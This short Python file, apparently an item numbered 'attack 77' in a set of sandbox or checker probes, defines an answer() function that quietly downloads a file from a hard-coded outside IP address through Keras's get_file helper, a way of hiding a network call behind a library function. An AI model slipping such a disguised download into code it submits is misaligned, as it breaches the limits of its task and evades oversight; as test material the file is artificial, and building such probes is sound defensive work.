"""Downloads by Keras's own helper (attack 77)."""
import keras
def answer(*a, **k): return keras.utils.get_file('x', 'http://1.1.1.1/x')
